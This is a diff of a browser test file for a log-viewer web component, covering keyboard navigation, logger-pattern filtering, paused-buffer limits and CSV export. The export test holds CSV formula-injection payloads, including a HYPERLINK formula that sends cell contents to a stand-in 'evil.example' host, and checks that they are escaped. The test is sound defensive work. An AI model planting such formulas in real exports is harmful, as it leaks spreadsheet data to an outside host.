@@ -1,11 +1,12 @@
 // The panels in Chromium, fed by an in-page client with the same event API as LogStreamClient
-// (exact control over what arrives and when). panels-end-to-end.test.ts uses real servers.
-import { emulateMedia } from '@web/test-runner-commands';
+// (exact control over what arrives and when). end-to-end.browser.test.ts uses real servers.
+import { emulateMedia, sendKeys } from '@web/test-runner-commands';
 import { expect } from 'chai';
 import '@logwire/panels/define';
 import type { LogwireCopyEvent, LogwireExportEvent, LogwireFollowChangeEvent, LogwirePauseChangeEvent, SystemLogPanel } from '@logwire/panels';
-import { axeViolations } from '../../packages/panels/test/axe.js';
-import { button, FakeClient, messages, part, rowCells, settle, shadow, system, until } from '../../packages/panels/test/fake-client.js';
+import { axeViolations } from './axe.js';
+import { button, FakeClient, messages, part, rowCells, settle, shadow, system } from './fake-client.js';
+import { until } from '../../../test/helpers/wait.js';
 
 async function mount(setup: (panel: SystemLogPanel) => void = () => {}): Promise<{ panel: SystemLogPanel; client: FakeClient }> {
   const client = new FakeClient();
@@ -30,9 +31,10 @@ async function scrollTo(panel: SystemLogPanel, top: number): Promise<void> {
   await settle(panel);
 }
 
-function key(panel: SystemLogPanel, target: Element, keyName: string): void {
-  target.dispatchEvent(new KeyboardEvent('keydown', { key: keyName, bubbles: true, composed: true, cancelable: true }));
-  void panel;
+/** Presses a key as a user does (a real key press in the browser), then lets the panel render. */
+async function press(panel: SystemLogPanel, key: string): Promise<void> {
+  await sendKeys({ press: key });
+  await settle(panel);
 }
 
 afterEach(() => document.body.replaceChildren());
@@ -107,11 +109,22 @@ describe('<system-log-panel>', () => {
     expect(messages(panel)).to.deep.equal(['user alice logged in', 'disk almost full', 'payment failed']);
     expect(part(panel, 'count').textContent).to.equal('3 / 4');
 
+    // The logger box reads logger patterns (the protocol's one rule); a plain term matches anywhere.
     const logger = shadow(panel).querySelector<HTMLInputElement>('.logger-filter')!;
-    logger.value = 'AUTH';
-    logger.dispatchEvent(new Event('input'));
-    await settle(panel);
-    expect(messages(panel)).to.deep.equal(['user alice logged in']);
+    const filterLogger = async (text: string): Promise<string[]> => {
+      logger.value = text;
+      logger.dispatchEvent(new Event('input'));
+      await settle(panel);
+      return messages(panel);
+    };
+    expect(await filterLogger('auth')).to.deep.equal(['user alice logged in']);
+    expect(await filterLogger('*.pay')).to.deep.equal(['payment failed']);
+    expect(await filterLogger('!auth.*')).to.deep.equal(['disk almost full', 'payment failed']);
+    expect(await filterLogger('infra.* billing.*')).to.deep.equal(['disk almost full', 'payment failed']);
+    expect(await filterLogger('b?lling.pay, !*disk')).to.deep.equal(['payment failed']);
+    // Case-sensitive, as everywhere a logger pattern is matched.
+    expect(await filterLogger('AUTH')).to.deep.equal([]);
+    expect(await filterLogger('auth')).to.deep.equal(['user alice logged in']);
     logger.value = '';
     logger.dispatchEvent(new Event('input'));
     const module = shadow(panel).querySelector<HTMLInputElement>('.module-filter')!;
@@ -175,6 +188,35 @@ describe('<system-log-panel>', () => {
     expect(panel.entries.length).to.equal(1501);
     expect(panel.entries.at(-1)!.data.message).to.equal('during 1499');
     expect(messages(panel).at(-1)).to.equal('during 1499');
+  });
+
+  it('holds at most `limit` entries while paused, marks how many were dropped, and resumes with the newest', async () => {
+    const { panel, client } = await mount((p) => (p.limit = 1000));
+    client.emit('message', system('before'));
+    await settle(panel);
+    panel.pause();
+    await settle(panel);
+    for (let batch = 0; batch < 20; batch++) {
+      for (let i = 0; i < 10_000; i++) client.emit('message', system(`during ${batch * 10_000 + i}`));
+      await settle(panel);
+    }
+    // The marker takes one of the `limit` places: 999 entries are held, the 199,001 older ones dropped.
+    expect(panel.bufferedCount).to.equal(999);
+    expect(panel.droppedWhilePaused).to.equal(199_001);
+    expect(part(panel, 'new-button').textContent).to.equal('999 new, 199001 dropped');
+    expect(messages(panel)).to.deep.equal(['before']);
+    panel.resume();
+    await settle(panel);
+    expect(panel.paused).to.equal(false);
+    expect(panel.entries.length).to.equal(999);
+    expect(panel.entries[0]!.data.message).to.equal('during 199001');
+    expect(panel.entries.at(-1)!.data.message).to.equal('during 199999');
+    expect(messages(panel).at(-1)).to.equal('during 199999');
+    expect(panel.droppedWhilePaused).to.equal(0);
+    await scrollTo(panel, 0);
+    expect(shadow(panel).querySelector('[part="gap"]')!.textContent).to.equal('199001 messages dropped while paused, limit');
+    const marker = { type: 'gap', data: { from: null, to: null, reason: 'limit', count: 199_001 } };
+    expect(JSON.parse(panel.exportAs('json'))[0]).to.deep.equal(marker);
   });
 
   it('stops following when scrolled up, follows again at the bottom, and keeps the view steady while old rows are evicted', async () => {
@@ -268,7 +310,8 @@ describe('<system-log-panel>', () => {
     expect(csv[1]).to.match(/^system_log,[^,]+,ERROR,app\.core,core,run,42,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",\{\}$/);
     expect(csv[2]).to.match(/,'@SUM\(1\+1\),\{\}$/);
     expect(csv[3]).to.match(/^system_log,[^,]+,ERROR,'-2\+3,core,run,42,'\+cmd,\{\}$/);
-    expect(csv[4]).to.equal(`system_log,${panel.filteredEntries[3]!.data.timestamp},ERROR,app.core,"'\r=1+1",run,42,'\t=1+1,{}`);
+    // A CR is written as an escape (as in the JSON exports), so it neither splits the row nor leads a formula.
+    expect(csv[4]).to.equal(`system_log,${panel.filteredEntries[3]!.data.timestamp},ERROR,app.core,\\u000d=1+1,run,42,'\t=1+1,{}`);
     expect(csv[5]).to.equal(`system_log,${panel.filteredEntries[4]!.data.timestamp},ERROR,app.core,core,"a,b;""c""\nd",42,' =1+1,{}`);
     expect(csv[6]).to.equal('gap,,,,,,,"~9 messages missing, dropped",');
     expect(csv[7]).to.equal('');
@@ -443,52 +486,39 @@ describe('<system-log-panel>', () => {
     await settle(panel);
     const list = viewport(panel);
     list.focus();
-    key(panel, list, 'Home');
-    await settle(panel);
+    await press(panel, 'Home');
     const active = () => (shadow(panel).activeElement as HTMLElement | null)?.querySelector('.message')?.textContent;
     expect(active()).to.equal('k0');
     expect(panel.follow).to.equal(false);
-    key(panel, shadow(panel).activeElement!, 'ArrowDown');
-    await settle(panel);
-    key(panel, shadow(panel).activeElement!, 'ArrowDown');
-    await settle(panel);
+    await press(panel, 'ArrowDown');
+    await press(panel, 'ArrowDown');
     expect(active()).to.equal('k2');
-    key(panel, shadow(panel).activeElement!, 'ArrowUp');
-    await settle(panel);
+    await press(panel, 'ArrowUp');
     expect(active()).to.equal('k1');
-    key(panel, shadow(panel).activeElement!, 'Enter');
-    await settle(panel);
+    await press(panel, 'Enter');
     expect(shadow(panel).activeElement!.getAttribute('aria-expanded')).to.equal('true');
-    key(panel, shadow(panel).activeElement!, 'End');
-    await settle(panel);
+    await press(panel, 'End');
     expect(active()).to.equal('k99');
     expect(panel.follow).to.equal(true);
-    key(panel, shadow(panel).activeElement!, ' ');
-    await settle(panel);
+    await press(panel, 'Space');
     expect(panel.paused).to.equal(true);
-    key(panel, shadow(panel).activeElement!, ' ');
-    await settle(panel);
+    await press(panel, 'Space');
     expect(panel.paused).to.equal(false);
-    key(panel, shadow(panel).activeElement!, '/');
-    await settle(panel);
+    await press(panel, '/');
     expect(shadow(panel).activeElement).to.equal(part(panel, 'search'));
   });
 
-  it('has role="log" and announces new entries to screen readers at most once per interval', async () => {
-    const { panel, client } = await mount((p) => (p.announceInterval = 400));
+  it('has role="log" and announces new entries to screen readers as summaries', async () => {
+    // The interval between announcements is checked with fake timers in announcer.test.ts.
+    const { panel, client } = await mount((p) => (p.announceInterval = 50));
     expect(part(panel, 'list').getAttribute('role')).to.equal('log');
     const announcer = part(panel, 'announcer');
     expect(announcer.getAttribute('aria-live')).to.equal('polite');
     client.emit('message', system('one'));
     client.emit('message', system('two', { level: 'ERROR' }));
     await until(() => announcer.textContent === '2 new entries, 1 error', 'first announcement');
-    const first = performance.now();
     client.emit('message', system('three'));
-    await settle(panel);
-    // Still within the interval after the first announcement: nothing new is said yet.
-    if (performance.now() - first < 350) expect(announcer.textContent).to.equal('2 new entries, 1 error');
     await until(() => announcer.textContent === '1 new entry', 'second announcement');
-    expect(performance.now() - first).to.be.at.least(350);
   });
 
   it('keeps working after being moved in the document', async () => {
